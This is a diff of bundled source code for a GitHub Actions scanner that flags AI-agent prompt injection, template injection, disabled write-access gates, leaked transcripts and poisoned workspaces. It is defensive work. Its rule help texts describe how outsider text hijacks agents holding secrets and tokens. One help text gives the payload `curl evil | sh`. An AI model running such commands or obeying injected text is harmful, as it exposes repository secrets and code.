+  const modelKey = c.keyInProcess && c.secrets.some((s) => s.modelKey);
+  if (exfil) return "acts";
+  if (tokenInHand && anyWrite) return "acts";
+  if (c.tools.shell === "restricted" && (anyWrite || nonModelSecrets || modelKey)) return "acts";
+  if (c.idToken && c.tools.shell !== "none") return "acts";
+  return "nothing";
+}
+function severityFor(reach, c) {
+  if (reach === "none") return null;
+  if (reach === "action-gated") return "low";
+  const holding = holdingOf(c);
+  if (reach === "outsider") return holding === "worm" ? "critical" : holding === "acts" ? "high" : "medium";
+  if (reach === "outsider-unprivileged") return "medium";
+  return holding === "nothing" ? "low" : "medium";
+}
+
+// src/checks/context.ts
+var DOCS_BASE = "https://github.com/agent-guard/agent-guard/blob/main/docs/rules";
+function docsUrl(id) {
+  return `${DOCS_BASE}/${id}.md`;
+}
+
+// src/analysis/capabilities.ts
+var HOSTED_RUNNER = /^(ubuntu|windows|macos)-|^(ubuntu|windows|macos)$/i;
+var MODEL_KEY_NAME = /(ANTHROPIC|CLAUDE|OPENAI|GEMINI|GOOGLE_API|QWEN|DASHSCOPE|OPENROUTER|MISTRAL|GROQ|DEEPSEEK|COHERE|XAI|OPENCODE|CURSOR|FACTORY|WARP|AMP|LLM|AI)_?(API_?)?(KEY|TOKEN)|OAUTH_TOKEN/i;
+var TOKEN_ENV = /^(GITHUB_TOKEN|GH_TOKEN|GITHUB_PAT|GH_PAT|GH_ENTERPRISE_TOKEN|GITHUB_PERSONAL_ACCESS_TOKEN|COPILOT_GITHUB_TOKEN)$/;
+function secretRefs(node, within, depth = 0) {
+  const out = { secrets: [], githubToken: false };
+  const visit = (n) => {
+    if (!n) return;
+    if (n.kind === "map") return n.pairs.forEach((p) => visit(p.value));
+    if (n.kind === "seq") return n.items.forEach(visit);
+    if (typeof n.value !== "string" || !n.text.includes("${{")) return;
+    for (const t of findTemplates(n.text)) {
+      for (const r of referencesOf(t.inner) ?? []) {
+        if (r.path === "github.token" || r.path === "secrets.github_token") out.githubToken = true;
+        else if (r.path.startsWith("secrets.") && r.path.length > 8) out.secrets.push(r.path.slice(8).toUpperCase());
+        else if (r.path === "secrets" || r.path === "secrets.*") out.secrets.push("*");
+        else if (r.path.startsWith("inputs.") && within?.frame && depth < 8) {
+          const given = inputOf(within.frame.callerStep.step.with, r.path.slice(7));
+          const inner = secretRefs(given?.value, within.frame.callerStep, depth + 1);
+          out.secrets.push(...inner.secrets);
+          out.githubToken ||= inner.githubToken;
+        }
+      }
+    }
+  };
+  visit(node);
+  return out;
+}
+function writeScopesOf(permissions) {
+  if (!permissions) return { scopes: ["*"], isDefault: true, idToken: false };
+  if (permissions.all === "write") return { scopes: ["*"], isDefault: false, idToken: true };
+  const scopes = Object.entries(permissions.scopes).filter(([scope, level]) => level === "write" && scope !== "id-token").map(([scope]) => scope);
+  return { scopes, isDefault: false, idToken: permissions.scopes["id-token"] === "write" };
+}
+var RUN_SCRIPT = { shell: "full", network: true, writesFiles: true };
+function shellCapabilities(step) {
+  return capabilitiesAt(step, { keyEnv: [] }, RUN_SCRIPT, false);
+}
+function capabilitiesAt(step, agent, tools, jailed) {
+  const secrets = [];
+  const tokens = [];
+  const keyInputs = new Set((agent.action?.keyInputs ?? []).map((i) => i.toLowerCase()));
+  const tokenInputs = new Set((agent.action?.tokenInputs ?? []).map((i) => i.toLowerCase()));
+  const isModelKey = (name, secret) => agent.keyEnv.includes(name) || keyInputs.has(name.toLowerCase()) || MODEL_KEY_NAME.test(secret) || MODEL_KEY_NAME.test(name);
+  const envLayers = [
+    { entries: step.step.env, where: "env", within: step },
+    ...framesOf(step).map((caller) => ({ entries: caller.step.env, where: `env of step '${caller.step.label}'`, within: caller })),
+    { entries: step.job.job.env, where: "job env", within: step },
+    { entries: step.job.workflow.env, where: "workflow env", within: step }
+  ];
+  for (const layer of envLayers) {
+    for (const entry of layer.entries) {
+      const refs = secretRefs(entry.value, layer.within);
+      for (const s of refs.secrets) secrets.push({ name: s, via: `${layer.where} ${entry.name}`, modelKey: isModelKey(entry.name, s) });
+      const tokenVar = TOKEN_ENV.test(entry.name) && entry.value.kind === "scalar" && entry.value.text.trim() !== "";
+      if (refs.githubToken || tokenVar) {
+        tokens.push({ via: `${layer.where} ${entry.name}`, foreign: !refs.githubToken });
+      }
+    }
+  }
+  for (const input of step.step.with) {
+    const refs = secretRefs(input.value, step);
+    for (const s of refs.secrets) {
+      const token = tokenInputs.has(input.name.toLowerCase()) || TOKEN_ENV.test(s);
+      if (token) tokens.push({ via: `input ${input.name}`, foreign: true });
+      else secrets.push({ name: s, via: `input ${input.name}`, modelKey: isModelKey(input.name, s) });
+    }
+    if (refs.githubToken && tokenInputs.has(input.name.toLowerCase())) tokens.push({ via: `input ${input.name}`, foreign: false });
+  }
+  if (agent.action?.tokenInputs?.length && !tokens.some((t) => t.via.startsWith("input"))) {
+    tokens.push({ via: "the default github.token", foreign: false });
+  }
+  const inherited = step.job.caller?.secrets;
+  if (inherited === "inherit") secrets.push({ name: "*", via: "secrets: inherit from the caller", modelKey: false });
+  if (tools.shell === "full" && !isSelfHosted(step)) {
+    const known = new Set(secrets.map((s) => s.name));
+    for (const other of step.job.steps) {
+      for (const name of stepSecrets(other)) {
+        if (known.has(name)) continue;
+        known.add(name);
+        secrets.push({ name, via: `the runner's memory (used by step '${other.step.label}')`, modelKey: MODEL_KEY_NAME.test(name) });
+      }
+    }
+    tokens.push({ via: "the runner's memory (a shell with sudo reads the job's GITHUB_TOKEN)", foreign: false });
+  }
+  const cloud = cloudLogins(step);
+  const persisted = persistedCheckout(step);
+  if (persisted) tokens.push({ via: "credentials persisted in .git/config by actions/checkout", foreign: false });
+  const perms = writeScopesOf(step.job.permissions);
+  const keyInProcess = agent.keyInProcess ?? true;
+  return {
+    secrets: jailed ? [] : secrets,
+    tokens: jailed ? [] : tokens,
+    writeScopes: perms.scopes,
+    permissionsDefault: perms.isDefault,
+    idToken: perms.idToken && !jailed,
+    cloudCredentials: jailed ? [] : cloud,
+    selfHosted: isSelfHosted(step),
+    persistedCredentials: persisted && !jailed,
+    tools: jailed ? { ...tools, network: false } : tools,
+    keyInProcess: keyInProcess && !jailed,
+    jailed
+  };
+}
+function stepSecrets(step) {
+  const out = [];
+  const nodes = [...step.step.with.map((w) => w.value), ...step.step.env.map((e) => e.value), step.step.run];
+  for (const n of nodes) out.push(...secretRefs(n).secrets);
+  return out.filter((s) => s !== "*" && s !== "GITHUB_TOKEN");
+}
+function framesOf(step) {
+  const out = [];
+  for (let f = step.frame; f; f = f.callerStep.frame) out.push(f.callerStep);
+  return out;
+}
+function isSelfHosted(step) {
+  const labels = step.job.job.runsOn;
+  if (!labels.length) return false;
+  if (labels.some((l) => l.includes("${{"))) return false;
+  return labels.some((l) => /self-hosted/i.test(l)) || !labels.some((l) => HOSTED_RUNNER.test(l));
+}
+var CLOUD_LOGINS = [
+  { uses: /^google-github-actions\/auth@/i, leaves: "GCP credentials (gha-creds-*.json in the workspace, GOOGLE_APPLICATION_CREDENTIALS)" },
+  { uses: /^aws-actions\/configure-aws-credentials@/i, leaves: "AWS credentials (AWS_ACCESS_KEY_ID/AWS_SESSION_TOKEN in the environment)" },
+  { uses: /^azure\/login@/i, leaves: "Azure credentials (the az CLI token cache in HOME)" }
+];
+function cloudLogins(step) {
+  const out = [];
+  const own = step.step.with.find((w) => /workload_identity_provider|workload-identity-provider|role-to-assume/i.test(w.name) && w.text.trim());
+  if (own) out.push(`cloud credentials minted by this step (input ${own.name})`);
+  for (const s of step.job.steps) {
+    if (s.position >= step.position) break;
+    const hit = CLOUD_LOGINS.find((c) => c.uses.test(s.step.uses?.text ?? ""));
+    if (hit && !out.includes(hit.leaves)) out.push(hit.leaves);
+  }
+  return out;
+}
+function persistedCheckout(step) {
+  return step.job.steps.some((s) => {
+    if (s.position >= step.position) return false;
+    if (!/^actions\/checkout@/i.test(s.step.uses?.text ?? "")) return false;
+    const persist = inputOf(s.step.with, "persist-credentials")?.text;
+    return persist === void 0 || !/^false$/i.test(persist.trim());
+  });
+}
+function describeCapabilities(c) {
+  const out = [];
+  if (c.jailed) out.push("jailed:agent-guard-run");
+  for (const s of c.secrets) out.push(`secret:${s.name}${s.modelKey ? " (model key)" : ""} via ${s.via}`);
+  for (const t of c.tokens) out.push(`github-token:${t.foreign ? "pat-or-app-token" : "GITHUB_TOKEN"} via ${t.via}`);
+  if (c.permissionsDefault) out.push("permissions:default (write-all where the repository default is permissive)");
+  else for (const s of c.writeScopes) out.push(`permission:${s}:write`);
+  if (c.idToken) out.push("permission:id-token:write (OIDC)");
+  for (const cloud of c.cloudCredentials) out.push(`cloud:${cloud}`);
+  if (c.selfHosted) out.push("runner:self-hosted");
+  else if (c.tools.shell === "full" && !c.jailed) out.push("actions-cache:write (poisons caches that release workflows restore)");
+  if (c.tools.shell !== "none") out.push(`shell:${c.tools.shell}`);
+  if (c.tools.network) out.push("network:unrestricted");
+  if (c.tools.writesFiles) out.push("writes-files");
+  if (c.keyInProcess && c.secrets.some((s) => s.modelKey)) out.push("model-key-in-agent-process");
+  return out;
+}
+
+// src/checks/common.ts
+var CONFIDENCE_ORDER = { low: 0, medium: 1, high: 2 };
+function worstTaint(site, channels) {
+  let best = null;
+  for (const channel of channels) {
+    for (const taint of channel.taints) {
+      const reach = reachOf(taint.origin, site.step, site.actorGate);
+      if (reach.level === "none") continue;
+      const candidate = { channel, taint, reach };
+      if (!best || better(candidate, best)) best = candidate;
+    }
+  }
+  return best;
+}
+function better(a, b) {
+  const r = REACH_ORDER[a.reach.level] - REACH_ORDER[b.reach.level];
+  if (r) return r > 0;
+  const c = CONFIDENCE_ORDER[a.channel.confidence] - CONFIDENCE_ORDER[b.channel.confidence];
+  if (c) return c > 0;
+  return a.taint.hops.length < b.taint.hops.length;
+}
+function confidenceOf(hit) {
+  if (hit.reach.uncertain && hit.channel.confidence === "high") return "medium";
+  return hit.channel.confidence;
+}
+function siteLocation(site) {
+  const pos = positionOf(site.file, site.offset);
+  return { file: site.file.path, line: pos.line, column: pos.column };
+}
+function stepLocation(step, offset) {
+  const pos = positionOf(step.file, offset);
+  return { file: step.file.path, line: pos.line, column: pos.column };
+}
+function jobAndStep(step) {
+  return { job: step.job.job.id, step: step.step.label };
+}
+function pathOf(site, hit, sinkNote) {
+  const loc2 = siteLocation(site);
+  return [...site.step.job.via, ...hit.taint.hops, { ...loc2, note: sinkNote }];
+}
+function severityOf(hit, caps) {
+  return severityFor(hit.reach.level, caps);
+}
+function capabilityList(caps) {
+  return describeCapabilities(caps);
+}
+var PROVIDER_BY_KEY = { anthropic: "anthropic", openai: "openai", gemini: "gemini" };
+function fixFor(site, hit) {
+  const lines = [];
+  const event = hit?.reach.trigger?.event;
+  const obj2 = gateObject(event);
+  if (hit && (hit.reach.level === "outsider" || hit.reach.level === "outsider-unprivileged")) {
+    if (obj2) {
+      lines.push(
+        `Gate the job on who wrote the text: \`if: contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.${obj2}.author_association)\`.`
+      );
+    } else {
+      lines.push("Do not run the agent on events outsiders can fire, or gate the job on the actor's write access.");
+    }
+  }
+  const w = site.gateWidenedBy;
+  if (w && !w.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\` so the action's own write-access check applies.`);
+  if (w?.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\`: it opens the agent to outsiders as soon as \`${w.inertWithout}\` is set.`);
+  const c = site.capabilities;
+  if (c.jailed) {
+    lines.push("The agent runs in the jail and holds nothing; what remains is what its output and its writes to the workspace can steer (see poisoned-workspace and ai-output-unsafe).");
+  }
+  if (c.writeScopes.length || c.idToken) {
+    lines.push("Give the agent job `permissions: { contents: read }` (no id-token), and let a separate job without AI validate the agent's output (a JSON schema, an allowlist of labels) and do the writes.");
+  }
+  if (c.tokens.some((t) => t.foreign)) lines.push("Do not hand the agent a personal access token or App token; use the job's short-lived GITHUB_TOKEN with read permissions.");
+  if (c.persistedCredentials) lines.push("Set `persist-credentials: false` on actions/checkout.");
+  if (c.secrets.some((s) => !s.modelKey)) lines.push(`Move secrets the agent does not need (${c.secrets.filter((s) => !s.modelKey).map((s) => s.name).join(", ")}) out of its job.`);
+  const provider = providerFor(site);
+  if (site.cli && !c.jailed) {
+    lines.push(`Run it in the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.cli.commands[0]} ...\` (no secrets, no network but the model API, the key held by a proxy).`);
+  } else if (site.action) {
+    if (c.jailed) {
+    } else if (site.action.id.startsWith("claude-code-action")) {
+      lines.push("Run Claude Code in the jail: `agent-guard wrap claude` installs a wrapper; set `path_to_claude_code_executable` to it.");
+    } else if (site.action.cli) {
+      lines.push(`Replace the action with its CLI under the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.action.cli} ...\`.`);
+    }
+  }
+  if (hit && (hit.channel.kind === "prompt" || hit.channel.kind === "script" || hit.channel.kind === "env")) {
+    lines.push("Pass outsider text as data the agent reads with no tools that matter, never as instructions: moving it into env: protects a shell, not a prompt.");
+  }
+  return lines.join(" ");
+}
+function providerFor(site) {
+  const p = site.cli?.provider;
+  if (p) return p;
+  return site.action?.cli ? PROVIDER_BY_KEY[site.action.cli] : void 0;
+}
+function gateObject(event) {
+  switch (event) {
+    case "issues":
+      return "issue";
+    case "issue_comment":
+    case "discussion_comment":
+    case "pull_request_review_comment":
+      return "comment";
+    case "pull_request_target":
+    case "pull_request":
+      return "pull_request";
+    case "pull_request_review":
+      return "review";
+    case "discussion":
+      return "discussion";
+    default:
+      return null;
+  }
+}
+function describeReach(hit) {
+  switch (hit.reach.level) {
+    case "outsider":
+      return hit.reach.how;
+    case "outsider-unprivileged":
+      return `${hit.reach.how} (from a fork: no secrets, read-only token)`;
+    case "maintainer":
+    case "action-gated":
+      return hit.reach.how;
+    default:
+      return "not reachable";
+  }
+}
+
+// src/checks/agentGateDisabled.ts
+var agentGateDisabled = {
+  meta: {
+    id: "agent-gate-disabled",
+    title: "An agent action's built-in write-access check is switched off",
+    severity: "high",
+    docs: docsUrl("agent-gate-disabled"),
+    help: 'claude-code-action, droid-action, codex-action and opencode refuse to run for users without write access unless an input opens them (`allowed_non_write_users: "*"`, `allowed_bots: "*"`, `allow-users: "*"`). On a trigger outsiders can fire, that input hands the agent, and everything it holds, to anyone who can open an issue. Remove the input, or keep it only on a job that holds nothing.'
+  },
+  run(ctx) {
+    const findings = [];
+    for (const site of ctx.sites) {
+      const widened = site.gateWidenedBy;
+      if (!widened) continue;
+      const reach = reachOf(TRIGGERING_ACTOR, site.step);
+      if (reach.level !== "outsider") continue;
+      const openToAnyone = widened.value.trim() === "*" || widened.effect === "anyone";
+      const holding = holdingOf(site.capabilities);
+      let severity = holding === "nothing" ? "medium" : "high";
+      if (widened.effect === "bots" || !/^\*$/.test(widened.value.trim())) severity = holding === "nothing" ? "low" : "medium";
+      if (widened.inertWithout) severity = "low";
+      const at = widened.node?.start ?? site.offset;
+      findings.push({
+        rule: "agent-gate-disabled",
+        severity,
+        confidence: "high",
+        ...stepLocation(site.step, at),
+        ...jobAndStep(site.step),
+        message: widened.inertWithout ? `\`${widened.input}: ${widened.value.trim()}\` would switch off ${site.agentName}'s write-access check, and does as soon as \`${widened.inertWithout}\` is set: ${reach.how}.` : `\`${widened.input}: ${widened.value.trim()}\` switches off ${site.agentName}'s write-access check${openToAnyone ? "" : " for the listed users or bots"}: ${reach.how}.`,
+        path: [],
+        capabilities: capabilityList(site.capabilities),
+        fix: fixFor(site, null)
+      });
+    }
+    return findings;
+  }
+};
+
+// src/checks/agentOutputLeak.ts
+var TRANSCRIPTS = /\.claude\/projects|\.claude\b|\.gemini\/tmp|\.codex\/sessions|\.codex\b|transcript|session[-_ ]?log|\.opencode|\.goose/i;
+var agentOutputLeak = {
+  meta: {
+    id: "agent-output-leak",
+    title: "An outsider-reachable agent's full output or transcripts are published",
+    severity: "medium",
+    docs: docsUrl("agent-output-leak"),
+    help: "Workflow logs, step summaries and artifacts of a public repository are public. Inputs like claude-code-action's `show_full_output`, run-gemini-cli's `gemini_debug` and `upload_artifacts`, or an upload of the agent's session folder, publish everything the agent saw and did \u2014 a hijacked agent only has to read a secret to publish it, since secret masking covers only values GitHub knows. Leave these off on jobs outsiders can trigger, and upload only the structured result the next job needs."
+  },
+  run(ctx) {
+    const findings = [];
+    for (const site of ctx.sites) {
+      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
+      if (reach.level !== "outsider" && reach.level !== "maintainer") continue;
+      for (const leak of leaks(site)) {
+        findings.push({
+          rule: "agent-output-leak",
+          severity: reach.level === "outsider" && !site.capabilities.jailed ? "medium" : "low",
+          confidence: "medium",
+          ...stepLocation(leak.step, leak.offset),
+          ...jobAndStep(leak.step),
+          message: `${leak.what} of ${site.agentName} (step '${site.step.step.label}'): ${reach.how}.`,
+          path: [],
+          capabilities: capabilityList(site.capabilities),
+          fix: "Turn it off on jobs outsiders can reach; publish only a validated, structured result."
+        });
+      }
+    }
+    return findings;
+  }
+};
+function leaks(site) {
+  const out = [];
+  for (const name of site.action?.leakInputs ?? []) {
+    const entry = inputOf(site.step.step.with, name);
+    const value = entry?.text.trim().toLowerCase() ?? "";
+    if (entry && value && value !== "false" && value !== "0" && value !== "manual" && value !== "disabled") {
+      out.push({ step: site.step, offset: entry.value.start, what: `\`${entry.name}: ${entry.text.trim()}\` publishes the output` });
+    }
+  }
+  for (const later of site.step.job.steps) {
+    if (later.position <= site.step.position || !/^actions\/upload-artifact@/i.test(later.step.uses?.text ?? "")) continue;
+    const path14 = inputOf(later.step.with, "path");
+    if (path14 && TRANSCRIPTS.test(path14.text)) {
+      out.push({ step: later, offset: path14.value.start, what: `step '${later.step.label}' uploads the session transcripts (${path14.text.trim()})` });
+    }
+  }
+  return out;
+}
+
+// src/checks/siteRule.ts
+function siteRule(meta, origins2, message, sinkNote) {
+  return {
+    meta,
+    run(ctx) {
+      const findings = [];
+      for (const site of ctx.sites) {
+        const channels = site.channels.map((c) => ({ ...c, taints: c.taints.filter((t) => origins2.includes(t.origin.kind)) })).filter((c) => c.taints.length);
+        const hit = worstTaint(site, channels);
+        if (!hit) continue;
+        const severity = severityOf(hit, site.capabilities);
+        if (!severity) continue;
+        findings.push({
+          rule: meta.id,
+          severity,
+          confidence: confidenceOf(hit),
+          ...siteLocation(site),
+          ...jobAndStep(site.step),
+          message: `${message(site, hit)}: ${describeReach(hit)}.`,
+          path: pathOf(site, hit, `${sinkNote} (${hit.channel.name})`),
+          related: relatedSources(site, channels, hit),
+          capabilities: capabilityList(site.capabilities),
+          fix: fixFor(site, hit)
+        });
+      }
+      return findings;
+    }
+  };
+}
+function relatedSources(site, channels, chosen) {
+  const out = [];
+  const seen = /* @__PURE__ */ new Set([key(chosen.taint.hops[0])]);
+  for (const channel of channels) {
+    for (const taint of channel.taints) {
+      const first = taint.hops[0];
+      if (!first || seen.has(key(first))) continue;
+      if (reachOf(taint.origin, site.step, site.actorGate).level === "none") continue;
+      seen.add(key(first));
+      out.push(first);
+    }
+  }
+  return out.slice(0, 20);
+}
+function key(h) {
+  return h ? `${h.file}:${h.line}:${h.column}` : "";
+}
+
+// src/checks/agentReadsUntrusted.ts
+var agentReadsUntrusted = siteRule(
+  {
+    id: "agent-reads-untrusted",
+    title: "An AI agent fetches outsider-written issues, comments or pull requests itself",
+    severity: "critical",
+    docs: docsUrl("agent-reads-untrusted"),
+    help: "The agent fetches the issue or pull-request thread (or is told to, e.g. `gh issue view`, GitHub MCP tools), so text written by anyone reaches it even though the workflow interpolates nothing. A scheduled agent that reads open issues is reachable by every outsider, one hour later. Treat the agent as holding untrusted input: no secrets, no write token, no shell, and run it under `agent-guard run`."
+  },
+  ["thread", "fetch"],
+  (site, hit) => `${site.agentName} reads ${hit.taint.origin.what}`,
+  "the agent reads it at run time"
+);
+
+// src/checks/templateInjection.ts
+function codeSinks(step) {
+  const out = [];
+  if (step.step.run) out.push({ node: step.step.run, what: "the run script" });
+  if (/^actions\/github-script@/i.test(step.step.uses?.text ?? "")) {
+    const script = inputOf(step.step.with, "script");
+    if (script?.value.kind === "scalar") out.push({ node: script.value, what: "the github-script script" });
+  }
+  return out;
+}
+function sinkTaints(step, node, engine) {
+  return engine.templates(node.text, (o, l) => locateInScalar(step.file, node, o, l), step.file, { job: step.job, step });
+}
+var templateInjection = {
+  meta: {
+    id: "template-injection",
+    title: "Outsider-controlled text is expanded into a shell script",
+    severity: "critical",
+    docs: docsUrl("template-injection"),
+    help: '`${{ }}` is expanded before the shell runs, so text like an issue title becomes code: `a"; curl evil | sh; echo "`. The script runs with every secret and token of the job. Pass the value through `env:` and use `"$VAR"` in the script.'
+  },
+  run(ctx) {
+    const findings = [];
+    for (const step of ctx.steps) {
+      for (const sink2 of codeSinks(step)) {
+        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
+          if (taint.origin.kind === "ai-output") continue;
+          const reach = reachOf(taint.origin, step);
+          const caps = shellCapabilities(step);
+          const severity = severityFor(reach.level, caps);
+          if (!severity) continue;
+          const sink3 = taint.hops[taint.hops.length - 1];
+          findings.push({
+            rule: "template-injection",
+            severity,
+            confidence: taint.hops.some((h) => h.note.startsWith("assumed")) ? "low" : "high",
+            file: sink3.file,
+            line: sink3.line,
+            column: sink3.column,
+            ...jobAndStep(step),
+            message: `${taint.origin.what} is expanded into ${sinkLabel(step)}: ${reach.how}.`,
+            path: [...step.job.via, ...taint.hops],
+            capabilities: capabilityList(caps),
+            fix: 'Move the value into `env:` (e.g. `env: { TITLE: ${{ github.event.issue.title }} }`) and use "$TITLE" in the script, quoted.'
+          });
+        }
+      }
+    }
+    return findings;
+  }
+};
+function sinkLabel(step) {
+  return step.step.run ? `the run script of step '${step.step.label}'` : `the github-script of step '${step.step.label}'`;
+}
+
+// src/checks/aiOutputUnsafe.ts
+var MERGE = /\bgh\s+pr\s+(merge|review\b[^\n]*--approve)|pulls\.(merge|createReview)|enablePullRequestAutoMerge|auto-merge|--admin\b/;
+var aiOutputUnsafe = {
+  meta: {
+    id: "ai-output-unsafe",
+    title: "A model's output is used as code, as another agent's prompt, or to decide a merge",
+    severity: "critical",
+    docs: docsUrl("ai-output-unsafe"),
+    help: "Whoever steers the model's input steers its output. Expanding `${{ steps.ai.outputs.response }}` into a script turns a prompt injection into a command injection; feeding it to another agent chains the injection; letting it decide a merge or approval lets the outsider approve their own change. Pass model output through `env:` and treat it as data: validate it against a schema or an allowlist in a step without AI."
+  },
+  run(ctx) {
+    const findings = [];
+    for (const step of ctx.steps) {
+      let reachCache;
+      const reachOfStep = () => reachCache ??= reachOf(TRIGGERING_ACTOR, step);
+      for (const sink2 of codeSinks(step)) {
+        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
+          if (taint.origin.kind !== "ai-output") continue;
+          const reach2 = reachOfStep();
+          if (reach2.level === "none") continue;
+          const caps = shellCapabilities(step);
+          findings.push(finding(step, taint, severityFor(reach2.level, caps) ?? "medium", `${taint.origin.what} is expanded into ${sink2.what} of step '${step.step.label}'`, reach2.how, capabilityList(caps)));
+        }
+      }
+      const decides = step.step.run && MERGE.test(step.step.run.text) || MERGE.test(step.step.with.map((w) => w.text).join("\n"));
+      const reach = decides ? reachOfStep() : void 0;
+      if (decides && reach && reach.level !== "none") {
+        const inputs = [
+          ...step.conditions.map((c) => c.node),
+          ...step.job.conditions.map((c) => c.node)
+        ];
+        for (const node of inputs) {
+          const taints = ctx.engine.ofScalar(node, step.file, { job: step.job, step }).filter((t) => t.origin.kind === "ai-output");
+          for (const taint of taints.slice(0, 1)) {
+            findings.push(finding(step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} decides whether step '${step.step.label}' merges or approves`, reach.how, []));
+          }
+        }
+      }
+    }
+    for (const site of ctx.sites) {
+      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
+      if (reach.level === "none") continue;
+      for (const channel of site.channels) {
+        if (channel.kind !== "prompt" && channel.kind !== "config") continue;
+        const taint = channel.taints.find((t) => t.origin.kind === "ai-output");
+        if (!taint) continue;
+        const loc2 = siteLocation(site);
+        findings.push({
+          ...finding(site.step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} becomes the ${channel.name} of ${site.agentName}`, reach.how, capabilityList(site.capabilities)),
+          ...loc2,
+          path: [...taint.hops, { ...loc2, note: "the second agent reads it as instructions" }]
+        });
+      }
+    }
+    return findings;
+  }
+};
+function finding(step, taint, severity, message, how, capabilities) {
+  const sink2 = taint.hops[taint.hops.length - 1];
+  return {
+    rule: "ai-output-unsafe",
+    severity,
+    confidence: "high",
+    file: sink2.file,
+    line: sink2.line,
+    column: sink2.column,
+    ...jobAndStep(step),
+    message: `${message}: ${how}.`,
+    path: [...step.job.via, ...taint.hops],
+    capabilities,
+    fix: 'Pass the output through `env:` (`env: { ANSWER: ${{ steps.ai.outputs.response }} }`, then "$ANSWER") and validate it in a step without AI: parse it as JSON against a schema, intersect labels with an allowlist, never let it decide a merge.'
+  };
+}
+
+// src/checks/poisonedWorkspace.ts
+var EXECUTES_OR_PUBLISHES = /(^|[\s;&|(])(npm|npx|yarn|pnpm|bun|node|make|pip3?|python3?|poetry|tox|pytest|go|cargo|mvn|gradle|\.\/gradlew|rake|bundle|dotnet|docker\s+(build|push)|twine|gem\s+push|git\s+(commit|push)|gh\s+(release|pr\s+create)|\.\/[\w./-]+)(\s|$)/m;
+var poisonedWorkspace = {
+  meta: {
+    id: "poisoned-workspace",
+    title: "Steps after an outsider-reachable agent run or publish what the agent could write",
+    severity: "critical",
+    docs: docsUrl("poisoned-workspace"),
+    help: "An agent that read outsider text can write files in the workspace (package.json scripts, Makefiles, .git/hooks, lockfiles, source). Later steps of the same job that build, test, commit, push or publish run those files with the job's secrets \u2014 even when the agent itself was jailed. Run the agent in its own job and hand its result to the next job as a validated artifact (a patch reviewed by a human, JSON checked against a schema), or run it with `agent-guard run --workspace ro`."
+  },
+  run(ctx) {
+    const findings = [];
+    for (const site of ctx.sites) {
+      if (!site.capabilities.tools.writesFiles && site.capabilities.tools.shell === "none") continue;
+      if (site.cli && /--workspace[=\s]+ro\b/.test(site.promptText) && site.capabilities.jailed) continue;
+      const reach = bestReach(site);
+      if (!reach) continue;
+      const later = site.step.job.steps.filter((s) => s.position > site.step.position && executesOrPublishes(s));
+      for (const step of later) {
+        const caps = shellCapabilities(step);
+        const severity = reach.level === "outsider" ? caps.secrets.some((s) => !s.modelKey) || caps.writeScopes.length ? "critical" : "high" : "medium";
+        const at = step.step.run?.start ?? step.step.uses?.start ?? step.step.node.start;
+        findings.push({
+          rule: "poisoned-workspace",
+          severity,
+          confidence: "medium",
+          ...stepLocation(step, at),
+          ...jobAndStep(step),
+          message: `step '${step.step.label}' runs or publishes the workspace after ${site.agentName} (step '${site.step.step.label}') could write to it: ${reach.how}.`,
+          path: [{ ...siteLocation(site), note: `${site.agentName} reads outsider text and can write files` }, { ...stepLocation(step, at), note: "a later step executes or publishes the workspace" }],
+          capabilities: capabilityList(caps),
+          fix: "Move the agent to its own job (no secrets) and pass its result as an artifact the next job validates; or run it with `agent-guard run --workspace ro`. Never build, commit or publish in the agent's job after it ran."
+        });
+      }
+    }
+    return findings;
+  }
+};
+function bestReach(site) {
+  let best = null;
+  for (const channel of site.channels) {
+    for (const taint of channel.taints) {
+      const reach = reachOf(taint.origin, site.step, site.actorGate);
+      if (reach.level === "none" || reach.level === "action-gated" || reach.level === "outsider-unprivileged") continue;
+      if (!best || REACH_ORDER[reach.level] > REACH_ORDER[best.level]) best = reach;
+    }
+  }
+  return best;
+}
+function executesOrPublishes(step) {
+  const uses = step.step.uses?.text ?? "";
+  if (uses.startsWith("./")) return true;
+  if (/^(softprops\/action-gh-release|peter-evans\/create-pull-request|stefanzweifel\/git-auto-commit-action|pypa\/gh-action-pypi-publish|JS-DevTools\/npm-publish)@/i.test(uses)) return true;
+  const run = step.step.run?.text;
+  return !!run && EXECUTES_OR_PUBLISHES.test(run);
+}
+
+// src/checks/promptInjection.ts
+var promptInjection = siteRule(
+  {
+    id: "prompt-injection",
+    title: "Outsider-controlled text reaches an AI agent",
+    severity: "critical",
+    docs: docsUrl("prompt-injection"),
+    help: "Text that anyone on the internet can write (an issue title, a comment, a branch name) reaches the prompt, configuration or environment of an AI agent. The agent cannot tell instructions from data, so the author of that text steers it and can use whatever the agent holds: secrets, the GitHub token, a shell, the network. Gate the job on the author, take every secret and write permission away from the agent job, and run the agent under `agent-guard run`."
+  },
+  ["context"],
+  (site, hit) => `${hit.taint.origin.what} reaches ${site.agentName} through ${hit.channel.name}`,
+  "the agent reads it"
+);
+
 // src/analysis/rulesData.ts
-var import_yaml4 = __toESM(require_dist());
+var import_yaml5 = __toESM(require_dist());
 
 // rules/agents.yml
 var agents_default = `# AI agents as they appear in GitHub Actions workflows: agent actions (\`uses:\`) and agent CLIs (\`run:\`).
@@ -16949,7 +16438,7 @@ var Ctx = class {
     this.file = file;
   }
   file;
-  lines = new import_yaml4.LineCounter();
+  lines = new import_yaml5.LineCounter();
   doc;
   fail(node, label, message) {
     const offset = node?.range?.[0] ?? 0;
@@ -16959,9 +16448,9 @@ var Ctx = class {
 };
 function describe(node) {
   if (node === null) return "nothing";
-  if ((0, import_yaml4.isMap)(node)) return "a mapping";
-  if ((0, import_yaml4.isSeq)(node)) return "a list";
-  if ((0, import_yaml4.isScalar)(node)) {
+  if ((0, import_yaml5.isMap)(node)) return "a mapping";
+  if ((0, import_yaml5.isSeq)(node)) return "a list";
+  if ((0, import_yaml5.isScalar)(node)) {
     const v = node.value;
     if (v === null) return "null";
     if (typeof v === "string") return `"${v.length > 40 ? `${v.slice(0, 40)}...` : v}"`;
